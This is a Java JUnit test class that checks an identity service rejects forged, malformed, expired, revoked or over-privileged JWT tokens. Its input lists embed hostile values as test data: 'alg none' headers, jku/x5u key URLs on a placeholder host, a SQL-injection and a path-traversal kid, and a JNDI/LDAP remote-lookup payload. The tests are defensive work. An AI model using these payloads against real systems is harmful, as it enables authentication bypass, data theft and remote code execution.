package io.dinrail.identity.h2.internal.keys;

import static io.dinrail.identity.h2.internal.keys.Surroundings.ADMIN;
import static io.dinrail.identity.h2.internal.keys.Surroundings.NOON;
import static io.dinrail.identity.h2.internal.keys.Surroundings.OTHER;
import static io.dinrail.identity.h2.internal.keys.Surroundings.attempt;
import static org.assertj.core.api.Assertions.assertThat;

import io.dinrail.identity.api.Admission.Reason;
import io.dinrail.identity.api.ApiKey.Permission;
import io.dinrail.identity.api.ApiKeys.NewKey;
import io.dinrail.identity.h2.internal.login.Proof;
import java.time.Duration;
import java.util.List;
import java.util.Set;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Tokens that must not get anybody in, nor further than their key goes. */
class JwtAttackTest {
    private static final long EXP = NOON.getEpochSecond() + 3600;

    private final Surroundings around = new Surroundings();
    private KeyBook keys;
    private NewKey key;

    @BeforeEach
    void aKey() throws Exception {
        keys = around.keys();
        key = keys.create(
                ADMIN,
                "default",
                "plant",
                List.of("devices/**", "fleets/**"),
                Set.of(Permission.PUBLISH, Permission.SUBSCRIBE));
    }

    @AfterEach
    void close() {
        around.memory.close();
    }

    @Test
    void theTokenAllTheseAreMadeFromIsGood() {
        assertThat(prove(signed(header(), claims("")))).isInstanceOf(Proof.Proven.class);
    }

    static Stream<String> headers() {
        return Stream.of(
                "{\"alg\":\"none\",\"kid\":\"KID\"}",
                "{\"alg\":\"None\",\"kid\":\"KID\"}",
                "{\"alg\":\"hs256\",\"kid\":\"KID\"}",
                "{\"alg\":\"HS256 \",\"kid\":\"KID\"}",
                "{\"alg\":\"HS384\",\"kid\":\"KID\"}",
                "{\"alg\":\"RS256\",\"kid\":\"KID\",\"jwk\":{\"kty\":\"RSA\",\"n\":\"AQAB\",\"e\":\"AQAB\"}}",
                "{\"alg\":[\"HS256\"],\"kid\":\"KID\"}",
                "{\"alg\":null,\"kid\":\"KID\"}",
                "{\"kid\":\"KID\"}",
                "{\"alg\":\"none\",\"alg\":\"HS256\",\"kid\":\"KID\"}",
                "{\"alg\":\"HS256\",\"kid\":\"KID\",\"kid\":\"KID\"}",
                "{\"alg\":\"HS256\",\"kid\":\"KID\",\"\\u006bid\":\"KID\"}",
                "{\"alg\":\"HS256\",\"kid\":\"KID\",\"jwk\":{\"kty\":\"oct\",\"k\":\"AAAA\"}}",
                "{\"alg\":\"HS256\",\"kid\":\"KID\",\"jku\":\"https://192.0.2.1/keys\"}",
                "{\"alg\":\"HS256\",\"kid\":\"KID\",\"x5u\":\"https://192.0.2.1/cert\"}",
                "{\"alg\":\"HS256\",\"kid\":\"KID\",\"x5c\":[\"AAAA\"]}",
                "{\"alg\":\"HS256\",\"kid\":\"KID\",\"crit\":[\"exp\"]}",
                "{\"alg\":\"HS256\",\"kid\":\"KID\",\"b64\":false}",
                "{\"alg\":\"HS256\"}",
                "{\"alg\":\"HS256\",\"kid\":7}",
                "{\"alg\":\"HS256\",\"kid\":\"sk_id_000000000000000000000000\"}",
                "{\"alg\":\"HS256\",\"kid\":\"../../../../dev/null\"}",
                "{\"alg\":\"HS256\",\"kid\":\"x' union select sealed from api_key_secret --\"}",
                "{\"alg\":\"HS256\",\"kid\":\"KID\\u0000\"}",
                "{\"alg\":\"HS256\",\"kid\":\"KID\\n\"}",
                "{\"alg\":\"HS256\",\"kid\":\"KID:pk\"}",
                "{\"alg\":\"HS256\",\"kid\":\"${jndi:ldap://192.0.2.1/a}\"}",
                "{\"alg\":\"HS256\",\"kid\":\"KID\"} {}",
                "{\"alg\":\"HS256\",\"kid\":\"KID\"",
                "[\"HS256\"]",
                "\"HS256\"");
    }

    @ParameterizedTest
    @MethodSource("headers")
    void aHeaderOfAnotherFormIsRefused(String header) {
        assertWrong(prove(signed(header.replace("KID", key.key().id()), claims(""))));
    }

    static Stream<String> claimSets() {
        return Stream.of(
                "{\"sub\":\"press-1\"}",
                "{\"sub\":\"press-1\",\"exp\":null}",
                "{\"sub\":\"press-1\",\"exp\":\"EXP\"}",
                "{\"sub\":\"press-1\",\"exp\":EXP.5}",
                "{\"sub\":\"press-1\",\"exp\":1e12}",
                "{\"sub\":\"press-1\",\"exp\":[EXP]}",
                "{\"sub\":\"press-1\",\"exp\":true}",
                "{\"sub\":\"press-1\",\"exp\":9223372036854775808}",
                "{\"sub\":\"press-1\",\"exp\":18446744073709551617}",
                "{\"sub\":\"press-1\",\"exp\":" + "9".repeat(90) + "}",
                "{\"sub\":\"press-1\",\"exp\":" + "9".repeat(2000) + "}",
                "{\"sub\":\"press-1\",\"exp\":EXP000}",
                "{\"sub\":\"press-1\",\"exp\":1,\"exp\":EXP}",
                "{\"sub\":\"press-2\",\"exp\":EXP}",
                "{\"sub\":\"Press-1\",\"exp\":EXP}",
                "{\"sub\":\"press-2\",\"sub\":\"press-1\",\"exp\":EXP}",
                "{\"sub\":\"press-1\\u0000\",\"exp\":EXP}",
                "{\"sub\":\"press\\u20101\",\"exp\":EXP}",
                "{\"sub\":\"" + "p".repeat(129) + "\",\"exp\":EXP}",
                "{\"sub\":\"\",\"exp\":EXP}",
                "{\"sub\":[\"press-1\"],\"exp\":EXP}",
                "{\"exp\":EXP}",
                "{\"sub\":\"press-1\",\"exp\":EXP,\"nbf\":EXP}",
                "{\"sub\":\"press-1\",\"exp\":EXP,\"nbf\":\"0\"}",
                "{\"sub\":\"press-1\",\"exp\":EXP,\"nbf\":null}",
                "{\"sub\":\"press-1\",\"exp\":EXP,\"channels\":\"devices/**\"}",
                "{\"sub\":\"press-1\",\"exp\":EXP,\"channels\":null}",
                "{\"sub\":\"press-1\",\"exp\":EXP,\"channels\":[null]}",
                "{\"sub\":\"press-1\",\"exp\":EXP,\"channels\":[7]}",
                "{\"sub\":\"press-1\",\"exp\":EXP,\"channels\":[\"**\"]}",
                "{\"sub\":\"press-1\",\"exp\":EXP,\"channels\":[\"devices/a\",\"alerts/a\"]}",
                "{\"sub\":\"press-1\",\"exp\":EXP,\"channels\":[\"devices/#\"]}",
                "{\"sub\":\"press-1\",\"exp\":EXP,\"channels\":[\"devices/\\u0000\"]}",
                "{\"sub\":\"press-1\",\"exp\":EXP,\"channels\":[\"dev\\u0069ces*/**\"]}",
                "{\"sub\":\"press-1\",\"exp\":EXP,\"permissions\":\"publish\"}",
                "{\"sub\":\"press-1\",\"exp\":EXP,\"permissions\":null}",
                "{\"sub\":\"press-1\",\"exp\":EXP,\"p\\u0065rmissions\":null}",
                "{\"sub\":\"press-1\",\"exp\":EXP,\"permissions\":[]}",
                "{\"sub\":\"press-1\",\"exp\":EXP,\"permissions\":[\"PUBLISH\"]}",
                "{\"sub\":\"press-1\",\"exp\":EXP,\"permissions\":[\"send\",\"command\"]}",
                "{\"sub\":\"press-1\",\"exp\":EXP,\"permissions\":[[]]}",
                "{\"sub\":\"press-1\",\"exp\":EXP,\"grants\":null}",
                "{\"sub\":\"press-1\",\"exp\":EXP,\"grants\":{}}",
                "{\"sub\":\"press-1\",\"exp\":EXP,\"grants\":[]}",
                "{\"sub\":\"press-1\",\"exp\":EXP,\"grants\":[{\"channels\":[\"devices/a\"]}]}",
                "{\"sub\":\"press-1\",\"exp\":EXP,\"grants\":[{\"permissions\":[\"publish\"]}]}",
                "{\"sub\":\"press-1\",\"exp\":EXP,\"grants\":[{\"channels\":[\"**\"],\"permissions\":[\"publish\"]}]}",
                "{\"sub\":\"press-1\",\"exp\":EXP,\"grants\":[{\"channels\":[\"devices/a\"],\"permissions\":[\"send\"]}]}",
                "{\"sub\":\"press-1\",\"exp\":EXP,\"metadata\":\"x\"}",
                "{\"sub\":\"press-1\",\"exp\":EXP,\"peerMetadata\":{\"a\":\"" + "x".repeat(4096) + "\"}}",
                "{\"sub\":\"press-1\",\"exp\":EXP,\"x\":" + "[".repeat(200) + "]".repeat(200) + "}",
                "{\"sub\":\"press-1\",\"exp\":EXP}{}",
                "{\"sub\":\"press-1\",\"exp\":EXP",
                "[]",
                "null",
                "");
    }

    @ParameterizedTest
    @MethodSource("claimSets")
    void claimsOfAnotherFormAreRefused(String claims) {
        assertWrong(prove(signed(header(), claims.replace("EXP", Long.toString(EXP)))));
    }

    @Test
    void moreThanAHundredChannelsAreRefused() {
        String many = String.join(
                ",",
                IntStream.range(0, 101).mapToObj(i -> "\"devices/" + i + "\"").toList());
        assertWrong(prove(signed(header(), claims(",\"channels\":[" + many + "]"))));
    }

    @Test
    void anExpMoreThanThirtyDaysAheadIsRefused() {
        long far = NOON.plus(Duration.ofDays(30)).getEpochSecond() + 1;
        assertWrong(prove(signed(header(), "{\"sub\":\"press-1\",\"exp\":" + far + "}")));
    }

    @Test
    void invalidUtf8IsRefused() {
        String claims = java.util.Base64.getUrlEncoder()
                .withoutPadding()
                .encodeToString(("{\"sub\":\"press-1\",\"exp\":" + EXP + ",\"x\":\"\u00ff\"}")
                        .getBytes(java.nio.charset.StandardCharsets.ISO_8859_1));
        String signed = HandMade.base64(header()) + '.' + claims;
        assertWrong(prove(signed + '.' + HandMade.signature(signed, key.signingSecret())));
    }

    @Test
    void aHugeTokenIsRefused() {
        assertWrong(prove(signed(header(), claims(",\"x\":\"" + "x".repeat(16_384) + "\""))));
    }

    @Test
    void aChangedSignatureIsRefused() {
        String good = signed(header(), claims(""));
        assertThat(prove(good)).isInstanceOf(Proof.Proven.class);
        int last = good.lastIndexOf('.');
        assertWrong(prove(good.substring(0, last + 1)));
        assertWrong(prove(good.substring(0, last + 1) + "A".repeat(43)));
        assertWrong(prove(good.substring(0, good.length() - 4)));
        assertWrong(prove(good + "AAAA"));
    }

    @ParameterizedTest
    @ValueSource(strings = {"", "a", "sk_secret_", "ID"})
    void aTokenSignedWithWhatIsPublicIsRefused(String hmacKey) {
        String known = hmacKey.equals("ID") ? key.key().id() : hmacKey;
        assertWrong(prove(
                known.isEmpty()
                        ? HandMade.base64(header()) + '.' + HandMade.base64(claims("")) + '.'
                        : HandMade.token(header(), claims(""), known)));
    }

    @Test
    void aTokenOfOneOrganisationIsNothingInAnother() {
        Proof proof = keys.prove(OTHER, "press-1", attempt(signed(header(), claims(""))))
                .toCompletableFuture()
                .join();
        assertWrong(proof);
    }

    @Test
    void anExpiredTokenIsBarredAndStaysSoWhenTheClockIsSetBack() {
        String token = signed(header(), claims(""));
        around.wall.advance(Duration.ofHours(2));
        assertThat(prove(token)).isEqualTo(new Proof.Failed(Reason.BARRED, "expired"));
        around.wall.advance(Duration.ofHours(-3));
        assertThat(prove(token)).isEqualTo(new Proof.Failed(Reason.BARRED, "expired"));
    }

    @Test
    void anExpiredTokenOfSomebodyElseIsJustWrong() {
        String token = signed(header(), "{\"sub\":\"press-2\",\"exp\":1}");
        assertWrong(prove(token));
    }

    @Test
    void whatWasSignedBeforeTheCredentialOfThatNameWasRevokedGetsNobodyIn() {
        Proof.Proven before = (Proof.Proven) prove(signed(header(), claims(iat(0))));
        around.revoked.put("default/press-1", NOON.plusSeconds(60));

        Proof revoked = new Proof.Failed(Reason.BARRED, "credential of that name revoked since");
        assertThat(before.holds().getAsBoolean()).isFalse();
        for (String old : List.of(iat(0), iat(60), "", ",\"iat\":null", ",\"iat\":\"9999999999\"")) {
            assertThat(prove(signed(header(), claims(old)))).isEqualTo(revoked);
        }
        assertThat(prove(signed(header(), claims(iat(61))))).isInstanceOf(Proof.Proven.class);
    }

    private static String iat(int seconds) {
        return ",\"iat\":" + (NOON.getEpochSecond() + seconds);
    }

    @Test
    void theReasonForTheAuditLogHoldsNothingOfTheToken() {
        Proof proof = prove(signed(header(), claims(",\"channels\":[\"secret-place/a\"]")));
        assertThat(proof.toString()).doesNotContain("secret-place").contains("channel beyond the key");
    }

    @Test
    void onlyWhatLooksLikeATokenIsTakenForOne() {
        assertThat(keys.claims(bytes(signed(header(), claims(""))))).isTrue();
        assertThat(keys.claims(bytes("eyJ.a."))).isTrue();
        assertThat(keys.claims(bytes("eyJhbGci"))).isFalse();
        assertThat(keys.claims(bytes("eyJ.a.b.c"))).isFalse();
        assertThat(keys.claims(bytes("a.b.c"))).isFalse();
        assertThat(keys.claims(bytes("eyJ=.a.b"))).isFalse();
        assertThat(keys.claims(bytes("e"))).isFalse();
    }

    private Proof prove(String token) {
        return keys.prove("default", "press-1", attempt(token))
                .toCompletableFuture()
                .join();
    }

    private String header() {
        return "{\"alg\":\"HS256\",\"typ\":\"JWT\",\"kid\":\"" + key.key().id() + "\"}";
    }

    private static String claims(String more) {
        return "{\"sub\":\"press-1\",\"exp\":" + EXP + more + "}";
    }

    private String signed(String header, String claims) {
        return HandMade.token(header, claims, key.signingSecret());
    }

    private static byte[] bytes(String text) {
        return text.getBytes(java.nio.charset.StandardCharsets.UTF_8);
    }

    private static void assertWrong(Proof proof) {
        assertThat(proof)
                .isInstanceOfSatisfying(
                        Proof.Failed.class,
                        failed -> assertThat(failed.reason()).isEqualTo(Reason.WRONG));
    }
}
